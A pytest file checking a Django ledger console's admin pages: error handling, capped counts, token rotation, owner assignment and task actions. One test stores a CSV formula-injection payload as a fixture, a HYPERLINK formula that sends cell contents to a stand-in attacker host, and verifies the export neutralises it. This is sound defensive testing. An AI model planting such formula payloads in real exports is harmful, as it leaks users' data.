"""The ledger's own pages (console/ledger_views.py): a hand-edited or hostile query string is
answered with the page or a 4xx, never a 500, and no page's statements grow with history."""

import csv
import io

import pytest
from django.contrib.auth import get_user_model
from django.core.management import call_command
from django.urls import reverse

from ledger.actions import action_request
from ledger.counts import HISTORY_EXACT_UP_TO
from ledger.middleware import current_request_id
from ledger.models import UNASSIGNED_OWNER, Action, ActionStatus, Agent, AuditEvent, Task
from ledger.replay import replay_agent
from tests.factories import make_agent, new_action, person

pytestmark = [pytest.mark.django_db, pytest.mark.usefixtures("jobs_to_test_redis")]


@pytest.fixture
def admin(client):
    client.force_login(get_user_model().objects.create_superuser("root", password="x"))
    client.raise_request_exception = False
    return client


@pytest.mark.parametrize("partial", ["event", "nope"])
def test_the_overview_answers_only_the_fragment_it_polls(admin, partial):
    # `event` is a partial of the overview's template too, one row of its activity list: asked
    # for by name, it rendered without its row and failed (a 500).
    make_agent("billing")  # an audit event, for the activity list
    assert admin.get("/", {"partial": "counts"}, headers={"HX-Request": "true"}).status_code == 200
    assert admin.get("/", {"partial": partial}, headers={"HX-Request": "true"}).status_code == 400


def test_the_agents_page_counts_each_agents_actions_only_up_to_a_cap(admin, monkeypatch):
    # Counting every action of every agent read the ledger's whole history on each visit.
    monkeypatch.setattr("console.ledger_views.HISTORY_EXACT_UP_TO", 2)
    busy, _ = make_agent("busy")
    quiet, _ = make_agent("quiet")
    for agent, n in ((busy, 1), (busy, 2), (busy, 3), (busy, 4), (busy, 5), (quiet, 6)):
        action_request(agent=agent, operation_key=f"refund:ORD-{n}:dec-{n}", action_type="refund", target=f"ORD-{n}",
                       customer=f"CUST-{n}", params={"amount": "10.00", "currency": "EUR"})
    response = admin.get("/agents/")
    page = response.content.decode()
    assert '<td class="num">2+</td>' in page  # busy's 5
    assert '<td class="num">1</td>' in page  # quiet's
    # Counted no further than the cap and one: busy's five are not read.
    assert {agent.name: agent.actions_count for agent in response.context["agents"]} == {"busy": 3, "quiet": 1}


def test_the_agents_page_writes_a_capped_count_as_the_rest_of_the_console_does(admin):
    # "1,000+", as the overview, the dead-letter queue and the incidents write theirs; not "1000+".
    busy, _ = make_agent("busy")
    Action.objects.bulk_create(new_action(busy, ActionStatus.SUCCEEDED, key=f"refund:ORD-{n}:dec-{n}")
                               for n in range(HISTORY_EXACT_UP_TO + 1))
    assert f'<td class="num">{HISTORY_EXACT_UP_TO:,}+</td>' in admin.get("/agents/").content.decode()


def test_the_agents_page_refuses_to_rotate_the_replay_agents_token(client):
    """Nobody holds a token of the replay set's agent (its replay-keyed actions skip the grant
    check at the claim): the page says so, shows no token, and the agent's token is unchanged."""
    client.force_login(person("ada", "admins"))
    agent = replay_agent()
    response = client.post(reverse("agent-change", args=[agent.pk, "rotate"]), {"reason": "curious"}, follow=True)
    assert response.redirect_chain == [(reverse("agent-list"), 302)]
    assert "Not done: the replay set&#x27;s agent has no token anyone holds" in response.content.decode()
    after = Agent.objects.get(pk=agent.pk)
    assert (after.token_hash, after.token_prefix) == (agent.token_hash, agent.token_prefix)
    assert not AuditEvent.objects.filter(verb="token_rotated").exists()


def test_an_agent_made_without_an_owner_is_given_one_on_the_agents_page(client):
    """`create_agent NAME` without --owner leaves the agent to the placeholder, whose badge says to
    name one: the agents page names it, audited with its reason. Without a reason nothing changes."""
    call_command("create_agent", "support-bot", stdout=io.StringIO(), stderr=io.StringIO())
    agent = Agent.objects.get(name="support-bot")
    assert agent.owner.get_username() == UNASSIGNED_OWNER
    client.force_login(person("ada", "admins"))
    person("bea")
    assert "name one under Manage" in client.get(reverse("agent-list")).content.decode()
    change = reverse("agent-change", args=[agent.pk, "owner"])

    refused = client.post(change, {"owner": "bea", "reason": " "}, follow=True)
    assert "Not done: a reason is required" in refused.content.decode()
    assert Agent.objects.get(pk=agent.pk).owner.get_username() == UNASSIGNED_OWNER

    client.post(change, {"owner": "bea", "reason": "the support team runs it"})
    assert Agent.objects.get(pk=agent.pk).owner.get_username() == "bea"
    named = AuditEvent.objects.get(verb="owner_named")
    assert (named.before, named.after, named.reason) == ({"owner": UNASSIGNED_OWNER}, {"owner": "bea"},
                                                         "the support team runs it")
    assert "to be named" not in client.get(reverse("agent-list")).content.decode()


def test_the_audit_export_writes_no_cell_a_spreadsheet_would_run_as_a_formula(admin):
    """An agent names its own X-Request-ID and a person types a reason: a cell starting with = + - @
    is written after an apostrophe (shown as text), so opening the export runs nothing."""
    token = current_request_id.set("@SUM(1+1)")  # as the middleware sets an agent's own
    try:
        AuditEvent.objects.record(actor="system:tests", verb="noted", obj=make_agent("billing")[0],
                                  reason='=HYPERLINK("https://evil.example/?"&A1)')
    finally:
        current_request_id.reset(token)
    rows = list(csv.DictReader(io.StringIO(b"".join(admin.get("/audit/", {"format": "csv"}).streaming_content)
                                           .decode())))
    noted = next(row for row in rows if row["verb"] == "noted")
    assert noted["reason"] == '\'=HYPERLINK("https://evil.example/?"&A1)'
    assert noted["request_id"] == "'@SUM(1+1)"
    assert noted["actor"] == "system:tests"


def test_run_now_on_a_task_no_longer_queued_says_nothing_was_done(admin, agent):
    """A page opened while the task waited out its backoff, posted after a worker took it: the
    task is left alone, and the person is told so, not that it will run."""
    task = Task.objects.create(task_id="t-ran", fingerprint="x", workflow="refund", input={}, agent=agent,
                               max_attempts=3, state="succeeded")
    page = admin.post(f"/tasks/{task.pk}/run-now", follow=True).content.decode()
    assert "t-ran will run now" not in page and "Not done: t-ran is succeeded now" in page
    assert not AuditEvent.objects.filter(verb="run_now").exists()
